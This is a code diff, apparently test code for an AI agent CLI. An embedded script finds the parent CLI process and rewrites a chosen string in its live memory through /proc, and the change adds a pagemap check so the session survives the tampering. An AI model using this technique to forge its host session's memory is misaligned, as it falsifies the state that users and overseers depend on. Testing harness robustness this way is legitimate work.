@@ -17,15 +17,24 @@ const TOLD = 'THE MEMORY IS FORGED'
  */
 const FORGERY = `
 import { spawn } from 'node:child_process'
-import { openSync, readSync, writeSync } from 'node:fs'
+import { closeSync, openSync, readSync, writeSync } from 'node:fs'
 
 const [real, forged] = ${JSON.stringify([REAL, FORGED])}.map((text) => Buffer.from(text))
 const statOf = (pid) => /\\((.*)\\) \\S (\\d+)/s.exec(readFileSync('/proc/' + pid + '/stat', 'utf8'))
 let cli = process.ppid
 while (/sh$/.test(statOf(cli)[1])) cli = Number(statOf(cli)[2])
 
+// Reading what the CLI has only reserved would take the session's own memory, and end it.
+function isUsed(pages, at, length) {
+  const entries = Buffer.alloc(Math.ceil(length / 4096 + 1) * 8)
+  const got = readSync(pages, entries, 0, entries.length, Math.floor(at / 4096) * 8)
+  for (let entry = 7; entry < got; entry += 8) if (entries[entry] & 0x80) return true
+  return false
+}
+
 function overwrite(memory, pid) {
   const block = Buffer.alloc(4 * 1024 * 1024)
+  const pages = openSync('/proc/' + pid + '/pagemap', 'r')
   let hits = 0
   for (const line of readFileSync('/proc/' + pid + '/maps', 'utf8').split('\\n')) {
     const [, from, to] = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line) ?? []
@@ -33,6 +42,7 @@ function overwrite(memory, pid) {
     const end = parseInt(to, 16)
     for (let at = parseInt(from, 16); at < end; at += block.length - real.length) {
       let length = 0
+      if (!isUsed(pages, at, Math.min(block.length, end - at))) continue
       try { length = readSync(memory, block, 0, Math.min(block.length, end - at), at) } catch { break }
       for (let found = block.indexOf(real); found >= 0 && found + real.length <= length; found = block.indexOf(real, found + 1)) {
         writeSync(memory, forged, 0, forged.length, at + found)
@@ -40,6 +50,7 @@ function overwrite(memory, pid) {
       }
     }
   }
+  closeSync(pages)
   return hits
 }
 
